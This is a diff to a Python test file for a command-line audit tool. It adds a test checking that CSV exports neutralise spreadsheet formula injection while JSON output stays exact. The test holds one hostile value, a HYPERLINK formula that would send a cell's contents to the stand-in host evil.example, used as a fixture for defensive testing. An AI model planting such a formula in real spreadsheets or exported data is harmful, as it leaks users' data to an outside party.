@@ -123,3 +123,19 @@ def test_the_gateway_reads_times_as_the_cli_does():
         assert gateway_time(value, "since") == parse_time(value)
     with pytest.raises(APIError):
         gateway_time("2h", "since")  # ages are the CLI's own
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_neutralised(db_url, seeded):
+    from audit_fixtures import make_record
+
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    record = make_record(40, text_for=lambda i, k: "-2+3")
+    record["prompt"] = hostile
+    append_records(seeded, [record_from_dict(record)], key=signing.key_from_env())
+    for command in (["request", "req-40"], ["search", "--text", "-2+3"]):
+        result = _invoke(db_url, *command, "--format", "csv")
+        [row] = list(csv.DictReader(io.StringIO(result.output, newline="")))
+        assert (row["prompt"], row["text"]) == ("'" + hostile, "'-2+3")
+        assert row["cumulative_logprob"] == "-1.5"  # a number stays a number
+    [row] = orjson.loads(_invoke(db_url, "request", "req-40", "--format", "json").output)
+    assert row["prompt"] == hostile  # JSON is exact
